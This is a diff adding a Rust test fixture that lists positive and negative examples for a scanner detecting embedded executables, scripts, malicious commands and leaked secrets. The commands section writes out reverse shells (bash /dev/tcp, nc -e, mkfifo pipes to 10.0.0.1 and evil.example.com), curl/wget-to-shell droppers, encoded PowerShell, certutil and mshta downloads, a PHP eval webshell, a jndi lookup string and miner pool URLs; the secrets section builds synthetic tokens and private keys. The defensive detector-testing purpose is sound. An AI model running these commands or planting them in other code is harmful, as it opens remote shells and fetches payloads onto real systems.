@@ -1,0 +1,495 @@
+//! What each pattern must find, and what none may find.
+//!
+//! Secrets are put together here from halves, so that nothing in this file is
+//! one.
+
+use crate::report::Severity::{self, Critical, High, Low, Medium};
+
+/// A run of bytes that one pattern finds.
+pub(super) struct Example {
+    pub pattern: &'static str,
+    pub bytes: Vec<u8>,
+    pub rule: &'static str,
+    pub severity: Severity,
+}
+
+/// At least one example of every pattern.
+pub(super) fn positive() -> Vec<Example> {
+    let mut all = executables();
+    all.extend(scripts());
+    all.extend(commands());
+    all.extend(secrets());
+    all
+}
+
+fn example(
+    pattern: &'static str,
+    rule: &'static str,
+    severity: Severity,
+    bytes: impl Into<Vec<u8>>,
+) -> Example {
+    Example {
+        pattern,
+        bytes: bytes.into(),
+        rule,
+        severity,
+    }
+}
+
+/// `len` zeros with these fields written into them.
+fn header(len: usize, fields: &[(usize, &[u8])]) -> Vec<u8> {
+    let mut bytes = vec![0; len];
+    for (at, field) in fields {
+        bytes[*at..at + field.len()].copy_from_slice(field);
+    }
+    bytes
+}
+
+fn executables() -> Vec<Example> {
+    let elf64: &[(usize, &[u8])] = &[
+        (0, b"\x7fELF\x02\x01\x01"),
+        (16, b"\x03\0\x3e\0\x01\0\0\0"),
+        (32, b"\x40"),
+        (52, b"\x40\0\x38\0\x0b\0\x40\0"),
+    ];
+    let elf32: &[(usize, &[u8])] = &[
+        // The class, data and version bytes are wrong: the kernel does not care.
+        (0, b"\x7fELF\xff\xff\xff"),
+        (16, b"\0\x02\0\x08\0\0\0\x07"),
+        (40, b"\0\0\0\x20\0\x03"),
+    ];
+    let object: &[(usize, &[u8])] = &[
+        (0, b"\x7fELF\x02\x01\x01"),
+        (16, b"\x01\0\x3e\0\x01\0\0\0"),
+        (52, b"\x40\0\0\0\0\0\x40\0\x0c\0"),
+    ];
+    let pe = |machine: [u8; 2], magic: [u8; 2]| {
+        header(
+            0x200,
+            &[
+                (0, b"MZ\x90\0MZ"),
+                (0x3c, b"\x80"),
+                (0x80, b"PE\0\0"),
+                (0x84, &machine),
+                (0x86, b"\x05\0"),
+                (0x94, b"\xf0\0\x22\x20"),
+                (0x98, &magic),
+            ],
+        )
+    };
+    let mach = |magic: &[u8], big: bool, command_at: usize| {
+        let mut bytes = magic.to_vec();
+        for word in [0x0100_0007u32, 3, 2, 16, 1296, 0, 0x19, 72, 72, 72] {
+            bytes.extend(if big {
+                word.to_be_bytes()
+            } else {
+                word.to_le_bytes()
+            });
+        }
+        bytes.truncate(command_at + 8);
+        bytes
+    };
+    let fat = |magic: &[u8], words: &[u32]| {
+        let words = words.iter().flat_map(|w| w.to_be_bytes());
+        magic.iter().copied().chain(words).collect::<Vec<u8>>()
+    };
+    let all = [
+        ("elf", header(64, elf64)),
+        ("elf", header(64, elf32)),
+        ("elf", header(64, object)),
+        ("pe-i386", pe([0x4c, 1], [0x0b, 1])),
+        ("pe-amd64", pe([0x64, 0x86], [0x0b, 2])),
+        ("pe-arm", pe([0xc4, 1], [0x0b, 1])),
+        ("pe-arm64", pe([0x64, 0xaa], [0x0b, 2])),
+        ("mach-o-32", mach(b"\xce\xfa\xed\xfe", false, 32)),
+        ("mach-o-64", mach(b"\xcf\xfa\xed\xfe", false, 36)),
+        ("mach-o-32-big", mach(b"\xfe\xed\xfa\xce", true, 32)),
+        ("mach-o-64-big", mach(b"\xfe\xed\xfa\xcf", true, 36)),
+        (
+            "mach-o-fat",
+            fat(b"\xca\xfe\xba\xbe", &[2, 0x0100_0007, 3, 0x4000, 9000, 14]),
+        ),
+        (
+            "mach-o-fat-64",
+            fat(
+                b"\xca\xfe\xba\xbf",
+                &[1, 0x0100_000c, 3, 0, 0x4000, 0, 9000, 14, 0],
+            ),
+        ),
+        (
+            "dex",
+            header(
+                112,
+                &[(0, b"dex\n035\0"), (36, b"\x70"), (40, b"\x78\x56\x34\x12")],
+            ),
+        ),
+        (
+            "lnk",
+            b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x9b".to_vec(),
+        ),
+    ];
+    let mut all: Vec<Example> = all
+        .into_iter()
+        .map(|(pattern, bytes)| example(pattern, "embedded-executable", High, bytes))
+        .collect();
+    let wasm = b"\0asm\x01\0\0\0\x01\x07\x01\x60";
+    let kernel = header(
+        64,
+        &[
+            (0, b"\x7fELF\x02\x01\x01"),
+            (16, b"\x02\0\xbe\0"),
+            (54, b"\x38\0\x03"),
+        ],
+    );
+    all.push(example("elf", "embedded-executable", Low, kernel));
+    all.push(example("wasm", "embedded-executable", Medium, *wasm));
+    all
+}
+
+fn scripts() -> Vec<Example> {
+    [
+        ("script-bin", "\u{1}#!/bin/sh\necho hello to everyone\n"),
+        (
+            "script-usr",
+            "\u{1}#!/usr/bin/env python3\nimport os\nos.getcwd()\n",
+        ),
+        (
+            "script-blank-bin",
+            "\u{0}#! /bin/bash -e\r\ntouch /tmp/of/the/day\r\n",
+        ),
+        (
+            "script-blank-usr",
+            "\u{0}#! /usr/bin/perl -w\nprint 'hello, hello';\n",
+        ),
+    ]
+    .map(|(pattern, text)| example(pattern, "embedded-script", High, text))
+    .into()
+}
+
+fn commands() -> Vec<Example> {
+    let shell = |pattern, text: &str| example(pattern, "embedded-reverse-shell", Critical, text);
+    let dropper = |pattern, text: &str| example(pattern, "embedded-dropper", High, text);
+    let code = |pattern, text: &str| example(pattern, "embedded-code-evaluation", High, text);
+    let miner = |pattern, text: &str| example(pattern, "embedded-miner-configuration", High, text);
+    let wide: Vec<u8> = "Start-Process calc".bytes().flat_map(|b| [b, 0]).collect();
+    let wide = base64(&wide);
+    vec![
+        shell("dev-tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        shell("dev-tcp", "exec 5<>/dev/tcp/evil.example.com/443;cat <&5"),
+        shell("dev-udp", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"),
+        shell("netcat-shell", "nc 10.0.0.1 4444 -e /bin/sh"),
+        shell("netcat-shell", "x;ncat --ssl host 1 -e /bin/bash\n"),
+        shell(
+            "piped-shell",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+        ),
+        shell(
+            "dup2-socket",
+            "s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);",
+        ),
+        shell("pty-spawn", "import pty; pty.spawn(\"/bin/bash\")"),
+        dropper(
+            "curl-pipe",
+            "curl -fsSL https://example.com/x | sudo bash -s -- -y",
+        ),
+        dropper("curl-pipe", "/usr/bin/curl -s http://10.0.0.1/a.py|python3"),
+        dropper(
+            "curl-pipe",
+            "sh -c \"$(curl -fsSL https://example.com/install.sh)\"",
+        ),
+        dropper("curl-pipe", "bash <(curl -s https://example.com/x)"),
+        dropper("wget-pipe", "wget -qO- http://example.com/x | sh"),
+        dropper(
+            "chmod-run",
+            "wget http://10.0.0.1/m -O /tmp/m; chmod +x /tmp/m; /tmp/m",
+        ),
+        dropper("base64-pipe", "echo aWQ= | base64 -d | bash"),
+        dropper("base64-pipe", "base64 --decode <<< aWQ= | sh"),
+        dropper("brace-base64", "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}"),
+        dropper(
+            "powershell",
+            &format!("powershell -nop -w hidden -enc {wide}"),
+        ),
+        dropper(
+            "powershell",
+            &format!("powershell.exe -EncodedCommand {wide}"),
+        ),
+        dropper("powershell-title", &format!("PowerShell /ec {wide}")),
+        dropper("powershell-capital", &format!("POWERSHELL -E {wide}")),
+        dropper("pwsh", &format!("pwsh -e {wide}")),
+        dropper(
+            "download-string",
+            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+        ),
+        dropper(
+            "certutil",
+            "certutil -urlcache -split -f http://x/a.exe a.exe",
+        ),
+        dropper("mshta", "mshta http://x/a.hta"),
+        code("exec", "exec(base64.b64decode('aW1wb3J0IG9z'))"),
+        code("exec", "; exec( compile(zlib.decompress(x), '', 'exec'))"),
+        code("exec", "exec(__import__('zlib').decompress(x))"),
+        code("eval", "eval(atob('YWxlcnQoMSk='))"),
+        code("eval", "<?php eval(base64_decode('aWQ='));"),
+        code("eval", "<?php @eval($_POST['x']);"),
+        code("import-call", "__import__('os').system('id')"),
+        code(
+            "import-call",
+            "{{ __import__(\\\"subprocess\\\").check_output(\\\"id\\\") }}",
+        ),
+        code("jndi", "${jndi:ldap://x.example.com/a}"),
+        miner(
+            "stratum",
+            "\"url\": \"stratum+tcp://pool.example.com:3333\"",
+        ),
+        miner("stratum2", "stratum2+tcp://pool.example.com:3336/9b"),
+    ]
+}
+
+fn secrets() -> Vec<Example> {
+    let token = |pattern, prefix: &str, body: &str| {
+        example(
+            pattern,
+            "secret-access-token",
+            High,
+            format!(" {prefix}{body}\n"),
+        )
+    };
+    let medium = |pattern, prefix: &str, body: &str| {
+        example(
+            pattern,
+            "secret-access-token",
+            Medium,
+            format!(" {prefix}{body}\n"),
+        )
+    };
+    let face = |pattern, before: &str| {
+        let text = format!("{before}hf_{}\n", word(34));
+        example(pattern, "secret-access-token", High, text)
+    };
+    let key = |severity, text: String| example("private-key", "secret-private-key", severity, text);
+    let hex = "0f1e9c8b7a6d5e4c3b2a1908f7e6d5c4b3a291807f6e5d4c3b2a19087f6e5d4c";
+    let header = base64(b"{\"alg\":\"HS256\",\"typ\":\"JWT\"}");
+    let typed = base64(b"{\"typ\":\"JWT\",\"alg\":\"RS256\"}");
+    let keyed = base64(b"{\"kid\":\"a1b2\",\"alg\":\"RS256\"}");
+    let claims = base64(b"{\"sub\":\"someone\",\"admin\":true}");
+    let jwt = |first: &str| {
+        format!("{}.{claims}.{}", first.trim_end_matches('='), word(43)).replace('=', "")
+    };
+    vec![
+        example(
+            "aws-permanent",
+            "secret-access-token",
+            Low,
+            format!("{}{}\n", "AKIA", "Q3ZJ7MNB2XWPL5TK"),
+        ),
+        example(
+            "aws-temporary",
+            "secret-access-token",
+            High,
+            format!("ASIA{} {}9a8b7c\n", "Q3ZJ7MNB2XWPL5TK", word(34)),
+        ),
+        token("github-personal", "ghp_", &checked(7)),
+        token("github-oauth", "gho_", &checked(8)),
+        token("github-user", "ghu_", &checked(9)),
+        token("github-server", "ghs_", &checked(10)),
+        token("github-refresh", "ghr_", &checked(11)),
+        token(
+            "github-fine-grained",
+            "github_pat_",
+            &format!("{}_{}", word(22), word(59)),
+        ),
+        face("huggingface-double-quoted", "\""),
+        face("huggingface-quoted", "'"),
+        face("huggingface-assigned", "="),
+        face("huggingface-blank", " "),
+        face("huggingface-tab", "\t"),
+        face("huggingface-line", "\n"),
+        face("huggingface-colon", ":"),
+        face("huggingface-at", "@"),
+        face("huggingface-slash", "/"),
+        face("huggingface-backtick", "`"),
+        face("huggingface-length", "\u{c}%"),
+        face("huggingface-zero", "X%\0\0\0"),
+        token("huggingface-organisation", "api_org_", &word(34)),
+        token(
+            "slack-bot",
+            "xoxb-",
+            &format!("218374650912-9081726354981-{}", word(24)),
+        ),
+        token(
+            "slack-user",
+            "xoxp-",
+            &format!("218374650912-9081726354981-{}", word(24)),
+        ),
+        token(
+            "slack-workspace",
+            "xoxa-",
+            &format!("218374650912-9081726354981-{}", word(24)),
+        ),
+        token(
+            "slack-refresh",
+            "xoxr-",
+            &format!("218374650912-9081726354981-{}", word(24)),
+        ),
+        token(
+            "slack-webhook",
+            "https://hooks.slack.com/services/",
+            &format!("T1A2B3C4D/B5E6F7G8H/{}", word(24)),
+        ),
+        token("stripe-secret", "sk_live_", &word(24)),
+        token("stripe-restricted", "rk_live_", &word(24)),
+        token("google-api", "AIza", &word(35)),
+        token("google-oauth", "GOCSPX-", &word(28)),
+        token("npm", "npm_", &checked(12)),
+        token("pypi", "pypi-AgEIcHlwaS5vcmc", &word(80)),
+        token(
+            "openai",
+            "sk-proj-",
+            &format!("{}T3BlbkFJ{}", word(20), word(20)),
+        ),
+        token(
+            "anthropic",
+            "sk-ant-",
+            &format!("api03-{}-{}AA", word(50), word(36)),
+        ),
+        token("gitlab", "glpat-", &word(20)),
+        token("digitalocean", "dop_v1_", hex),
+        token("groq", "gsk_", &word(52)),
+        token("databricks", "dapi", &hex[..32]),
+        token("xai", "xai-", &word(80)),
+        token("azure-storage", "AccountKey=", &format!("{}==", word(86))),
+        token(
+            "discord-webhook",
+            "https://discord.com/api/webhooks/",
+            &format!("109283746556473829/{}", word(68)),
+        ),
+        token(
+            "telegram-bot",
+            "https://api.telegram.org/bot",
+            &format!("1029384756:{}", word(35)),
+        ),
+        token("sendgrid", "=SG.", &format!("{}.{}", word(22), word(43))),
+        medium("jwt-algorithm", "", &jwt(&header)),
+        medium("jwt-type", "", &jwt(&typed)),
+        medium("jwt-key", "", &jwt(&keyed)),
+        key(High, armour("PRIVATE KEY", &der(&[2, 1, 0], 300), "\n")),
+        key(
+            High,
+            armour("RSA PRIVATE KEY", &der(&[2, 1, 0], 600), "\r\n"),
+        ),
+        key(High, armour("EC PRIVATE KEY", &der(&[2, 1, 1], 110), "\\n")),
+        key(
+            High,
+            armour(
+                "OPENSSH PRIVATE KEY",
+                &[&b"openssh-key-v1\0"[..], &[7; 200]].concat(),
+                "\n",
+            ),
+        ),
+        key(
+            Medium,
+            armour("ENCRYPTED PRIVATE KEY", &der(&[0x30, 0x40], 200), "\n"),
+        ),
+        key(
+            Medium,
+            armour("RSA PRIVATE KEY", &[9; 200], "\n").replace(
+                "KEY-----\n",
+                "KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n",
+            ),
+        ),
+    ]
+}
+
+/// `len` characters that look drawn at random.
+fn word(len: usize) -> String {
+    const LETTERS: &[u8] = b"q7RzT2mWb9KxVd4HpL8sYcJ3nGf6ZaUe5BtQiM1oEvSrNkDwPyCjXgFhAu";
+    (0..len)
+        .map(|i| LETTERS[(i * 23 + len) % LETTERS.len()] as char)
+        .collect()
+}
+
+/// Thirty characters and their checksum, as GitHub and npm end their tokens.
+fn checked(seed: usize) -> String {
+    const DIGITS: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
+    let body = &word(30 + seed)[seed..];
+    let mut sum = crc32fast::hash(body.as_bytes()) as usize;
+    let mut digits = [b'0'; 6];
+    for digit in digits.iter_mut().rev() {
+        *digit = DIGITS[sum % 62];
+        sum /= 62;
+    }
+    format!("{body}{}", String::from_utf8_lossy(&digits))
+}
+
+fn der(start: &[u8], len: usize) -> Vec<u8> {
+    let mut bytes = vec![0x30, 0x82];
+    bytes.extend((len as u16).to_be_bytes());
+    bytes.extend(start);
+    bytes.extend((start.len()..len).map(|i| (i * 37) as u8));
+    bytes
+}
+
+fn armour(label: &str, body: &[u8], line_end: &str) -> String {
+    let text = base64(body);
+    let lines: Vec<&str> = text
+        .as_bytes()
+        .chunks(64)
+        .map(|l| std::str::from_utf8(l).unwrap())
+        .collect();
+    let lines = lines.join(line_end);
+    format!("-----BEGIN {label}-----{line_end}{lines}{line_end}-----END {label}-----{line_end}")
+}
+
+pub(super) fn base64(bytes: &[u8]) -> String {
+    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    bytes
+        .chunks(3)
+        .flat_map(|group| {
+            let bits = group.iter().fold(0u32, |bits, b| bits << 8 | u32::from(*b))
+                << (8 * (3 - group.len()));
+            (0..4).map(move |i| match i <= group.len() {
+                true => DIGITS[(bits >> (18 - 6 * i) & 63) as usize] as char,
+                false => '=',
+            })
+        })
+        .collect()
+}
+
+/// Ordinary content that comes close: vocabularies, documentation, ordinary
+/// code, published examples, cut keys.
+pub(super) const NEGATIVE: &[&str] = &[
+    // Tokenizer vocabularies and merges.
+    r##"{"eval(": 4832, "exec(": 991, "os.system": 3321, "__import__": 22, "__import__(": 23, "/dev/tcp/": 7,
+        "curl ": 9, "#!/bin/bash\n": 10, "#!/usr/bin/env": 11, "subprocess": 12, "base64 -": 13, "powershell": 14,
+        "-----BEGIN ": 15, "-----BEGIN RSA PRIVATE KEY-----": 16, "hf_": 17, "AKIA": 18, "eyJhbGci": 19}"##,
+    // Ordinary code.
+    "exec(compile(open(path).read(), path, 'exec'))\neval(expression, {}, {})\nmodel.eval()\nre.exec(text)",
+    "os.system('pip install -r requirements.txt')\nsubprocess.Popen(['ls', '-l'])\n__import__('os').environ",
+    "os = __import__('os')\nmodule = __import__(name)\nnumpy = __import__(\"numpy\").array([1])",
+    "os.dup2(devnull.fileno(), sys.stdout.fileno())\nos.dup2(log.fileno(), 1)",
+    "pty.spawn(command)\npty.spawn(argv[0], read)",
+    // Installation and waiting, without the second half.
+    "curl -L https://example.com/model.bin -o model.bin\nwget https://example.com/model.bin | tee log",
+    "curl https://example.com/data.json | jq .name | shasum\nlibcurl | sh https://x | bash_completion",
+    "timeout 5 bash -c '</dev/tcp/localhost/8080' || exit 1\n(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
+    "chmod +x ./run.sh; ./run.sh\nchmod +x tool",
+    "base64 -d model.b64 > model.bin\nbase64 --decode | gunzip",
+    "powershell -ExecutionPolicy Bypass -File install.ps1\nPowerShell 7 -e is short for -EncodedCommand",
+    "$client.DownloadString($url)\ncertutil -hashfile model.bin SHA256",
+    "nc -l 4444\ngcc -e /bin/main\nrsync -e /bin/sh",
+    "the stratum+tcp protocol, e.g. stratum+tcp://host",
+    "${jndi:ldap} look-ups were removed",
+    // Scripts quoted in text.
+    "Save this as run.sh:\n\n#!/bin/bash\nset -e\npython train.py --epochs 3\n",
+    // Published and made-up examples of secrets.
+    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+    "export HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nlogin(token=\"hf_abcdefghijklmnopqrstuvwxyzABCDEFGH\")",
+    "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx ghp_0123456789abcdefghijABCDEFGHIJ012345",
+    "sk_live_YOUR_KEY_HERE sk-proj-... sk-ant-api03-... glpat-xxxxxxxxxxxxxxxxxxxx npm_run_build_and_test_everything",
+    "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA...\n-----END RSA PRIVATE KEY-----",
+    "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa\n-----END CERTIFICATE-----",
+    "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
+];
